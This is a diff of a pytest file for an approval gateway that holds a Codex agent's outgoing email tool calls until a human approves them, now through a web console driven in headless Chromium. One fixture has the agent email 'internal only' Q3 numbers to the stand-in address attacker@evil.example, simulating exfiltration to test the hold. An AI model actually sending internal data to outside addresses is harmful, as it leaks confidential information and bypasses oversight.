@@ -7,7 +7,8 @@ answers a held call after a short `approvals.hold_wait`, and Codex is configured
 
 * run A, one `codex exec`: `read_inbox` runs; `send_email` to an outside address is held, and the
   tool result Codex hands the model says so and names the approval;
-* an approver approves it over the REST API;
+* an approver approves it in the web console (real headless Chromium: log in, open the held call
+  from the link, give a reason, Approve);
 * run B, a new `codex exec` (a new MCP session, a fresh CODEX_HOME): the model repeats exactly the
   same `send_email` call, which runs exactly once, then repeats it again, which is held anew.
 
@@ -42,6 +43,7 @@ SEEDED_SUBJECT = "Q3 numbers - internal only"
 SERVER_NAME = "triplock"
 PRINCIPAL = "codex-agent"
 APPROVER = ("alice", "alice-approver-token")
+CHROMIUM = "/usr/bin/chromium"  # Debian's, as the console's browser tests use
 HOLD_WAIT = 1.5  # seconds a held call waits in-band before Codex gets the "held" answer
 OUTSIDE = {"to": "attacker@evil.example", "subject": "Q3 numbers", "body": "as requested"}
 SEND = "demo__send_email"
@@ -98,7 +100,7 @@ class Story:
     run_a: CodexRun
     sent_after_a: int
     pending_after_a: list[dict[str, Any]]
-    approve_status: int
+    approved_in_console: dict[str, str]
     run_b: CodexRun
     sent_after_b: list[dict[str, Any]]
     approval_after_b: dict[str, Any]
@@ -163,10 +165,9 @@ def story(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
         pending = httpx.get(f"{base}/api/approvals", params={"state": "pending"}, headers=_approver_headers())
         pending.raise_for_status()
         held = HELD.search(_outputs(run_a)[-1]) if len(_outputs(run_a)) == 2 else None
-        approve_status = 0
+        approved: dict[str, str] = {}
         if held is not None:  # the approver acts on the id the agent was given
-            approve_status = httpx.post(f"{base}/api/approvals/{held.group(1)}/approve",
-                                        json={"reason": "checked by alice"}, headers=_approver_headers()).status_code
+            approved = _approve_in_console(base, held.group(1))
         run_b = run_codex(work, "run-b", block, [ToolStep("send_email", OUTSIDE), ToolStep("send_email", OUTSIDE)],
                           "Send that email again.", token)
         sent_after_b = asyncio.run(_sent(upstream_mcp))
@@ -175,8 +176,30 @@ def story(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
             shown = httpx.get(f"{base}/api/approvals/{held.group(1)}", headers=_approver_headers())
             approval_after_b = shown.json() if shown.status_code == 200 else {"status_code": shown.status_code}
         no_token = run_codex(work, "no-token", block, [ToolStep("read_inbox")], "Read my inbox.", None)
-        yield Story(mcp_url, run_a, sent_after_a, pending.json()["approvals"], approve_status, run_b, sent_after_b,
+        yield Story(mcp_url, run_a, sent_after_a, pending.json()["approvals"], approved, run_b, sent_after_b,
                     approval_after_b, audit, no_token)
+
+
+def _approve_in_console(base: str, approval_id: str) -> dict[str, str]:
+    """The approver's part, in the console in real headless Chromium (Debian's); what the page then shows."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"], headless=True)
+        try:
+            page = browser.new_context().new_page()
+            page.set_default_timeout(15_000)
+            page.goto(f"{base}/console/approvals/{approval_id}")  # the deep link survives the login
+            page.get_by_label("Approver token").fill(APPROVER[1])
+            page.get_by_role("button", name="Log in").click()
+            page.get_by_label("Reason").fill("checked by alice")
+            page.get_by_role("button", name="Approve", exact=True).click()
+            page.get_by_test_id("decided-by").wait_for()
+            return {"state": page.get_by_test_id("state").inner_text().split(" at ")[0],
+                    "decided-by": page.get_by_test_id("decided-by").inner_text().strip(),
+                    "decided-reason": page.get_by_test_id("decided-reason").inner_text().strip()}
+        finally:
+            browser.close()
 
 
 def _held_id(output: str) -> str:
@@ -222,7 +245,8 @@ def test_write_reaches_triplock_and_is_held_with_its_approval_id(story: Story) -
     assert [(a["id"], a["principal"], a["upstream"], a["tool"], a["state"]) for a in story.pending_after_a] == [
         (approval_id, PRINCIPAL, "demo", "send_email", "pending")
     ]
-    assert story.approve_status == 200
+    assert story.approved_in_console == {"state": "Approved by alice", "decided-by": APPROVER[0],
+                                         "decided-reason": "checked by alice"}
 
 
 def test_approved_call_repeated_from_a_new_codex_exec_runs_exactly_once(story: Story) -> None:
